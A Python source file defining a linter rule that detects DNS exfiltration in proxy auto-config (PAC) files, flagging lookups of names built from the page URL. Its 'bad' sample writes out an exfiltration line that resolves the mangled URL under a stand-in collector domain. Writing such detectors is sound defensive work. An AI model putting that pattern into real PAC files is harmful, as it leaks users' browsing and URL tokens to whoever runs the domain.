"""The rule ``dns-exfiltration``."""

from __future__ import annotations

from collections.abc import Iterator
from typing import ClassVar

from pacgen.lint.context import LintContext
from pacgen.lint.finding import Finding, Severity
from pacgen.lint.program import Program, Subject
from pacgen.lint.static import StaticRule
from pacgen.lint.vocabulary import DNS_HELPERS

__all__ = ["DnsExfiltration"]


class DnsExfiltration(StaticRule):
    """
    Checks for names made of the URL that are looked up.

    Why is this bad?
        A lookup is a message: whoever runs the name server of the domain that is appended
        reads along. That is how PAC files have leaked addresses of web pages, tokens
        included.

    Known problems
        None.

    References
        Kotler and Klein, "Crippling HTTPS with unholy PAC", Black Hat USA 2016.
    """

    name: ClassVar[str] = "dns-exfiltration"
    code: ClassVar[str] = "SE12"
    severity: ClassVar[Severity] = Severity.ERROR
    why: ClassVar[str] = "whoever runs that domain reads along which pages people open"
    bad: ClassVar[str] = """\
if (host == "unused.contoso.com") {
  if (isResolvable(url.replace(/[^a-z]/g, "-") + ".collector.example")) return "DIRECT";
}
"""
    good: ClassVar[str] = """\
if (host == "unused.contoso.com") {
  if (isResolvable("probe.corp.contoso.com")) return "DIRECT";
}
"""

    def inspect(self, context: LintContext, program: Program) -> Iterator[Finding]:
        for call in program.calls.of(*DNS_HELPERS):
            for argument in call.arguments[:1]:
                name = program.index.bare(argument)
                if name.type in {"identifier", "string"} or program.subject(name) is not None:
                    continue
                mentions = [
                    node
                    for node in program.index.tree.walk(name)
                    if node.type == "identifier" and program.subject(node) is Subject.URL
                ]
                suffixed = name.type in {"binary_expression", "template_string"}
                if mentions and suffixed:
                    yield self.at(
                        context,
                        call.node,
                        f"{call.name} looks up a name that is made of the URL",
                        tip="remove it, and find out how it came into the file",
                    )
